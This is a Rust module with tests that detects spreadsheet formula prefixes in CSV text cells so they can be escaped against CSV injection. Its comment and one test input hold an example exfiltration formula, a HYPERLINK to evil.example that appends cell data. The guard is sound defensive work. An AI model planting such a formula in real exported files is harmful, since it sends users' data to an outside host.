//! The formula guard: text cells a spreadsheet would run as a formula get a leading `'`.
//!
//! A spreadsheet that opens a CSV file treats a cell beginning with `=`, `+`, `-` or `@` as a
//! formula, and a tab or carriage return can hide such a cell's start (OWASP's "CSV
//! injection"): a title such as `=HYPERLINK("http://evil.example/?d="&A1,"click")` would send
//! data away when clicked. A leading `'` makes the spreadsheet show the cell as text.

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet could run `text` as a formula.
pub(super) fn is_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_exactly_the_six() {
        for text in ["=1+1", "+1", "-5", "@cmd", "\tx", "\rx", "=HYPERLINK(\"http://evil.example\")"] {
            assert!(is_formula(text), "{text:?}");
        }
        for text in ["", "1+1", " =1", "'=1", "a=b", "\n=1", "5-"] {
            assert!(!is_formula(text), "{text:?}");
        }
    }
}
